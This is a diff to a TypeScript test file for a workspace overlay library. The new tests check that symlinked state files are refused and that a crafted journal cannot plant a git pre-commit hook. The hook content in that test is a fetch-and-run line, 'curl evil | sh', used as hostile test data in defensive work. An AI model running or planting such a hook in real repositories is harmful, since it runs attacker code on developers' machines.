@@ -1,4 +1,6 @@
-import { existsSync, mkdirSync, readdirSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { resolveWorkspacePath, ROOT_PATH } from '@libos/core';
 import { createLocalProvider } from '@libos/provider-local';
@@ -71,6 +73,58 @@ describe('paths in the state are judged again at apply', () => {
     ).toEqual(['.git', 'ok.txt', 'src']);
     // All or nothing: nothing lands, and the refusal is a conflict, not an exception.
     expect(await overlay.apply({ mode: 'all_or_nothing' })).toMatchObject({ apply_id: null, applied: [] });
+    await overlay.close();
+    await lower.close();
+  });
+});
+
+describe('the state file itself', () => {
+  it('is refused when it, or its -wal or -shm, is a link into the root, dangling or not', async () => {
+    const { sandbox } = setUp();
+    const lower = createLocalProvider({ root: sandbox.root });
+    const at = (name: string) => join(sandbox.stateDirectory, name);
+    symlinkSync(join(sandbox.root, 'made-here.overlay'), at('dangling.overlay'));
+    symlinkSync(join(sandbox.root, 'journal'), at('wal.overlay-wal'));
+    symlinkSync(join(sandbox.root, 'shared'), at('shm.overlay-shm'));
+    for (const name of ['dangling.overlay', 'wal.overlay', 'shm.overlay']) {
+      await expect(openOverlay({ lower, state: at(name), lowerRoot: sandbox.root })).rejects.toMatchObject({
+        code: 'invalid_arguments',
+        details: { reason: 'state_inside_root' },
+      });
+    }
+    expect(readdirSync(sandbox.root).filter((name) => name !== '.libos-staging')).toEqual(['.git']);
+    await lower.close();
+  });
+});
+
+describe('a crafted journal', () => {
+  it('an unfinished apply naming .git/hooks/pre-commit is settled without touching it, and the overlay goes on', async () => {
+    const { sandbox, state } = setUp();
+    const first = await openOverlay({ lower: createLocalProvider({ root: sandbox.root }), state, lowerRoot: sandbox.root });
+    await first.close();
+    const dead = spawnSync('true').pid as number;
+    const db = new Database(state);
+    db.prepare("INSERT INTO applies (apply_id, mode, state, at, pid) VALUES ('apply_crafted', ?, 'running', ?, ?)").run(
+      'per_file',
+      new Date().toISOString(),
+      dead,
+    );
+    const hook = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
+    const plan = {
+      path: '.git/hooks/pre-commit',
+      base: { kind: 'missing' },
+      put: { kind: 'file', sha256: createHash('sha256').update(hook).digest('hex') },
+      tag: 'x',
+    };
+    db.prepare(
+      "INSERT INTO apply_items (apply_id, ord, path, state, plan, new_content, before_content, row_image, row_content) VALUES ('apply_crafted', 0, ?, 'planned', ?, ?, NULL, ?, NULL)",
+    ).run(plan.path, JSON.stringify(plan), hook, JSON.stringify({ path: plan.path }));
+    db.close();
+    const lower = createLocalProvider({ root: sandbox.root });
+    const overlay = await openOverlay({ lower, state, lowerRoot: sandbox.root });
+    expect(readdirSync(join(sandbox.root, '.git', 'hooks'))).toEqual([]);
+    await overlay.provider.writeFile(path('after.txt'), bytes('still works'), { overwrite: false });
+    expect((await overlay.apply()).applied).toEqual(['after.txt']);
     await overlay.close();
     await lower.close();
   });
